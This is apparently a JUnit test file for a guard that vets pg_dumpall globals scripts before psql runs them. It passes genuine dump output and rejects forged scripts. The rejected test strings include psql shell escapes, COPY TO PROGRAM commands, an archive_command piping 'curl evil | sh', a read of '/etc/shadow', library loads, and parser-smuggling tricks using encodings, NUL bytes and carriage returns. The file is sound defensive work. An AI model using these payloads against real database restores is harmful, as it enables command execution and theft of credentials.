package dev.drkit.postgres;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.drkit.UnsafeArchiveException;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class PsqlScriptGuardTest {
    private static void check(String script) {
        PsqlScriptGuard.check(script.getBytes(StandardCharsets.UTF_8), "globals.sql");
    }

    @Test
    void whatPgDumpallWritesPasses() {
        assertThatCode(() -> check("""
                \\restrict AbC123
                --
                -- PostgreSQL database cluster dump
                --
                SET default_transaction_read_only = off;
                SET standard_conforming_strings = on;
                CREATE ROLE app;
                ALTER ROLE app WITH NOSUPERUSER LOGIN PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$YWJj:ZGVm';
                COMMENT ON ROLE app IS 'it''s the app';
                CREATE TABLESPACE fast OWNER app LOCATION '/srv/fast';
                \\unrestrict AbC123
                """)).doesNotThrowAnyException();
    }

    @Test
    void aBackslashAnywhereButARestrictLineIsRefused() {
        List<String> forged = List.of(
                "CREATE ROLE app;\n\\! touch /tmp/pwned\n",
                "CREATE ROLE app; \\! id\n",
                "SELECT 'a' \\g /tmp/out\n",
                // what a lexer-following guard let through, each run to a shell by psql 15
                "SELECT E'a''\\'';\n\\! id > /tmp/p1\n';\n",
                "SELECT 1 AS xE'\\'\n\\! id > /tmp/p2\n';\n",
                "SELECT 1 AS a$$$\n\\! id > /tmp/p3\n$$;\n",
                "SET standard_conforming_strings = off;\nSELECT '\\';\n'\n\\! id > /tmp/p4\n';\n",
                "\\restrict ok\n\\copy t to program 'id'\n",
                "SELECT 1; \\restrict abc\n",
                "COMMENT ON ROLE a IS 'a backslash \\ in a string';\n");
        for (String script : forged) {
            assertThatThrownBy(() -> check(script))
                    .as(script)
                    .isInstanceOf(UnsafeArchiveException.class)
                    .hasMessageContaining("backslash at line");
        }
    }

    @Test
    void whatPgDumpall16To18WritesPasses() {
        assertThatCode(() -> check("""
                --
                -- PostgreSQL database cluster dump
                --

                \\restrict Xy9
                SET default_transaction_read_only = off;
                SET client_encoding = 'UTF8';
                SET standard_conforming_strings = on;

                --
                -- Roles
                --

                CREATE ROLE "Reporting; Team";
                ALTER ROLE "Reporting; Team" WITH NOSUPERUSER INHERIT NOCREATEROLE NOCREATEDB NOLOGIN NOREPLICATION NOBYPASSRLS;
                CREATE ROLE postgres;
                ALTER ROLE postgres WITH SUPERUSER INHERIT CREATEROLE CREATEDB LOGIN REPLICATION BYPASSRLS;
                SECURITY LABEL FOR dummy ON ROLE postgres IS 'classified';

                --
                -- User Configurations
                --

                ALTER ROLE app SET search_path TO 'app', 'public';
                ALTER ROLE app IN DATABASE shop SET work_mem TO '64MB';

                --
                -- Role memberships
                --

                GRANT "Reporting; Team" TO app WITH INHERIT TRUE GRANTED BY postgres;
                GRANT pg_read_all_data TO app WITH ADMIN OPTION GRANTED BY postgres;
                GRANT SET ON PARAMETER work_mem TO app;
                REVOKE ALL ON TABLESPACE fast FROM PUBLIC;
                GRANT CREATE ON TABLESPACE fast TO app;
                ALTER TABLESPACE fast SET (random_page_cost='1.1');
                COMMENT ON TABLESPACE fast IS 'nvme; fast';

                \\unrestrict Xy9
                --
                -- PostgreSQL database cluster dump complete
                --
                """)).doesNotThrowAnyException();
    }

    @Test
    void plainSqlThatRunsProgramsOrChangesTheServerIsRefused() {
        List<String> forged = List.of(
                "CREATE ROLE app;\nCOPY (SELECT 1) TO PROGRAM 'touch /tmp/pwned';\n",
                "copy (select 1) to program 'id';",
                "DO $$ BEGIN PERFORM 1; END $$;",
                "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $x$ import os $x$;",
                "CREATE EXTENSION plpython3u;",
                "ALTER SYSTEM SET archive_command = 'curl evil | sh';",
                "DROP DATABASE shop;",
                "CREATE DATABASE evil;",
                "SELECT pg_catalog.pg_read_file('/etc/shadow');",
                "SET session_preload_libraries = '/tmp/evil.so';",
                "GRANT ALL ON DATABASE shop TO app;",
                "GRANT SELECT ON ALL TABLES IN SCHEMA public TO app;",
                "ALTER DATABASE shop OWNER TO app;",
                "LOAD '/tmp/evil.so';",
                "CREATE ROLE a /* ; */; CREATE ROLE b; SELECT 1;",
                "COMMENT ON DATABASE shop IS 'x';",
                "ALTER ROLE app SET x = 1; TRUNCATE t;");
        for (String script : forged) {
            assertThatThrownBy(() -> check(script))
                    .as(script)
                    .isInstanceOf(UnsafeArchiveException.class)
                    .hasMessageContaining("does not write for roles and tablespaces");
        }
    }

    @Test
    void quotesAndCommentsDoNotHideAStatementsKind() {
        // what is inside quotes or comments is no word of the statement
        assertThatCode(() -> check("COMMENT ON ROLE app IS 'COPY; DROP DATABASE x; ON TABLE';"))
                .doesNotThrowAnyException();
        assertThatCode(() -> check("GRANT \"on\" TO app;")).doesNotThrowAnyException();
        assertThatThrownBy(() -> check("GRANT /* ON TABLESPACE */ ALL ON SCHEMA s TO app;"))
                .isInstanceOf(UnsafeArchiveException.class);
        assertThatThrownBy(() -> check("-- CREATE ROLE\nCOPY t TO PROGRAM 'id';"))
                .isInstanceOf(UnsafeArchiveException.class);
    }

    @Test
    void aDollarInsideAnIdentifierHidesNoStatement() {
        // psql and the server read x$a$ as one name: no dollar quote swallows the COPY
        String script = "CREATE ROLE x$a$;\nCOPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';\n-- $a$;\n";
        assertThatThrownBy(() -> check(script))
                .isInstanceOf(UnsafeArchiveException.class)
                .hasMessageContaining("COPY");
    }

    @Test
    void aClientOnlyEncodingIsRefusedAndServerEncodingsPass() throws Exception {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.write("SET client_encoding = 'SJIS';\nCREATE ROLE a".getBytes(StandardCharsets.US_ASCII));
        b.write(0x83); // in SJIS, 0x83 0x27 is one character: psql sees no quote where this guard does
        b.write("';\nCOPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned2';\n-- ';\n".getBytes(StandardCharsets.US_ASCII));
        assertThatThrownBy(() -> PsqlScriptGuard.check(b.toByteArray(), "globals.sql"))
                .isInstanceOf(UnsafeArchiveException.class);
        for (String encoding : List.of("BIG5", "GBK", "Shift_JIS", "UHC", "GB18030", "JOHAB", "WIN932")) {
            assertThatThrownBy(() -> check("SET client_encoding = '" + encoding + "';\n"))
                    .as(encoding)
                    .isInstanceOf(UnsafeArchiveException.class);
        }
        for (String encoding : List.of("UTF8", "LATIN1", "SQL_ASCII", "EUC_JP", "WIN1252")) {
            assertThatCode(() -> check("SET client_encoding = '" + encoding + "';\nCREATE ROLE a;\n"))
                    .as(encoding)
                    .doesNotThrowAnyException();
        }
    }

    @Test
    void aCarriageReturnEndsALineCommentAsItDoesForPsqlAndTheServer() {
        // psql's and the server's lexers end a -- comment at \r as at \n: what follows runs
        List<String> forged = List.of(
                "CREATE ROLE x;\n--\rCOPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';\n",
                "CREATE ROLE a --\r; COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';\n",
                "GRANT --\rALL ON DATABASE postgres TO evil;\npg_monitor TO evil;\n");
        for (String script : forged) {
            assertThatThrownBy(() -> check(script))
                    .as(script)
                    .isInstanceOf(UnsafeArchiveException.class)
                    .hasMessageContaining("does not write for roles and tablespaces");
        }
        assertThatCode(() -> check("CREATE ROLE a; -- a comment\r\nALTER ROLE a LOGIN;\r\n"))
                .doesNotThrowAnyException();
    }

    @Test
    void aNulByteIsRefusedSincePsqlDropsTheRestOfItsLine() {
        // psql reads COMMENT ON ROLE a IS ' and goes on in the string to 'x: the COPY runs
        String script = "COMMENT ON ROLE a IS '\0';\n"
                + "COMMENT ON ROLE a IS 'x'';COPY (SELECT 1) TO PROGRAM $q$id > /tmp/pwned$q$;--';\n";
        assertThatThrownBy(() -> check(script))
                .isInstanceOf(UnsafeArchiveException.class)
                .hasMessageContaining("NUL byte at line 1");
    }

    @Test
    void aColonOutsideQuotesIsRefusedSincePsqlPutsAVariableThere() {
        for (String script : List.of(
                "ALTER ROLE a SET search_path = :LAST_ERROR_MESSAGE;\n",
                "CREATE ROLE :'DBNAME';\n",
                "GRANT :\"USER\" TO a;\n",
                "ALTER ROLE a SET search_path = $ :LAST_ERROR_MESSAGE $;\n",
                "ALTER ROLE a SET work_mem = $\u00b0$ $\u00b0$ :ERROR;\n")) {
            assertThatThrownBy(() -> check(script))
                    .as(script)
                    .isInstanceOf(UnsafeArchiveException.class)
                    .hasMessageContaining("':' outside quotes");
        }
        // inside quotes and comments psql puts no variable
        assertThatCode(() -> check("CREATE ROLE \"a:b\"; -- :x\n"
                        + "ALTER ROLE \"a:b\" PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$YWJj:ZGVm' /* :y */;\n"
                        + "ALTER ROLE \"a:b\" SET search_path TO $q$:z$q$;\n"))
                .doesNotThrowAnyException();
    }
}
